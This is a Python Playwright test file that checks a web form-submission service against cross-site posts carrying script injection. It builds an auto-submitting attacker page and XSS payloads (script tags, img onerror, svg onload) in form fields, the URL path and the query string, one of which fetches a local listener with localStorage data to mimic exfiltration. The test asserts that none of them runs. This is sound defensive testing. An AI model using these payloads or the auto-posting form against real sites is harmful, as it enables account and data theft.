"""A page on another origin auto-posts hostile answers to the function, as any web site can (a
urlencoded post needs no CORS preflight): in real Chromium no dialog opens, nothing reaches a
listener on a third port, and no script of the attacker's runs in the site's origin."""

from __future__ import annotations

import html
import http.server
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser

from tests.servers import serving

SCRIPT = "<script>window.__hostile=1;alert(1);fetch('{listener}/s?'+localStorage.length)</script>"
IMAGE = "<img src=x onerror=alert(2)><img src={listener}/i>"


class _Listener(http.server.BaseHTTPRequestHandler):
    heard: list[str]

    def do_GET(self) -> None:
        self.heard.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A third origin, where injected markup would send what it read."""
    heard: list[str] = []
    handler = type("Listener", (_Listener,), {"heard": heard})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", heard
    server.shutdown()


def attacker_page(action: str, fields: list[tuple[str, str]]) -> bytes:
    """A page that posts a form to `action` as soon as it loads."""
    inputs = "".join(f'<input type="hidden" name="{html.escape(n)}" value="{html.escape(v)}">' for n, v in fields)
    return (f'<!doctype html><form id="f" method="post" action="{html.escape(action)}" '
            f'enctype="application/x-www-form-urlencoded">{inputs}</form>'
            "<script>document.getElementById('f').submit()</script>").encode()


def attacker_site(pages: dict[str, bytes]):
    def application(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/html; charset=utf-8")])
        return [pages[environ["PATH_INFO"]]]

    return application


def hostile_posts(site_url: str, listener_url: str) -> dict[str, bytes]:
    script, image = SCRIPT.format(listener=listener_url), IMAGE.format(listener=listener_url)
    submissions = f"{site_url}/api/procedures/cham-dut/submissions"
    return {
        "/answers": attacker_page(submissions, [("full_name", f'">{script}'), (f'x">{image}', script), ("note", image)]),
        "/version": attacker_page(submissions, [("_schema_version", "<svg onload=alert()>"), ("full_name", "A")]),
        "/procedure": attacker_page(f"{site_url}/api/procedures/<img src=x onerror=alert(4)>/submissions", [("a", "b")]),
        "/language": attacker_page(f"{submissions}?lang={script}", [("_lang", f'">{image}'), ("full_name", image)]),
    }


@pytest.mark.parametrize("post", ["/answers", "/version", "/procedure", "/language"])
def test_a_foreign_page_posting_hostile_answers_runs_no_script_in_the_sites_origin(browser: Browser, site_url, listener, post):
    listener_url, heard = listener
    with serving(attacker_site(hostile_posts(site_url, listener_url))) as attacker_url:
        context = browser.new_context(locale="vi-VN")
        page = context.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(site_url + "/")
        page.evaluate("localStorage.setItem('bhtn-answers', 'a worker\\'s saved answers')")
        page.goto(attacker_url + post)
        page.wait_for_url(f"{site_url}/api/procedures/**")
        page.wait_for_load_state("load")
        page.wait_for_timeout(300)  # time for an injected handler or request to fire, were there one
        assert page.evaluate("location.origin") == site_url
        assert "Hồ sơ chưa được gửi" in page.content()  # the function's own page, saying why
        assert page.evaluate("window.__hostile") is None
        context.close()
    assert dialogs == [] and heard == []
